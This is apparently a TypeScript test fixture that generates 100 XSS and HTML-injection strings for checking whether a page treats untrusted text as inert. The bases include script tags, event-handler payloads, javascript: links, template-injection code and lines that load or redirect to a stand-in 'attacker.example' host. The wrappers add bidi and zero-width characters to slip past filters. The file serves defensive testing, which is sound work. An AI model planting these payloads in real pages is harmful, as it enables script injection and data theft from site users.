// A hundred texts that would do something if a page took them for more than text.

const MARK = "window.__broken=1";

const BASES: readonly string[] = [
  `<script>${MARK}</script>`,
  `<img src=x onerror=${MARK}>`,
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>">`,
  `<body onload=${MARK}>`,
  `<details open ontoggle=${MARK}>`,
  `<input autofocus onfocus=${MARK}>`,
  `<video><source onerror=${MARK}></video>`,
  `<math><mi xlink:href="javascript:${MARK}">x</mi></math>`,
  `<a href="javascript:${MARK}">x</a>`,
  `[x](javascript:${MARK})`,
  `![x](x"onerror="${MARK})`,
  `<style>@import 'http://attacker.example/x.css';</style>`,
  `<link rel=stylesheet href=http://attacker.example/x.css>`,
  `<base href="http://attacker.example/">`,
  `<meta http-equiv=refresh content="0;url=http://attacker.example/">`,
  `<object data="data:text/html,<script>${MARK}</script>">`,
  `<embed src="javascript:${MARK}">`,
  `<form action="http://attacker.example/"><button>x</button></form>`,
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
  `"><script>${MARK}</script>`,
  `'-${MARK}-'`,
  `</title><script>${MARK}</script>`,
];

const WRAPS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `\`${text}\` and TASK-00001`,
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2066${text}\u200b`,
];

export const PAYLOADS: readonly string[] = BASES.flatMap((base) => WRAPS.map((wrap) => wrap(base)));
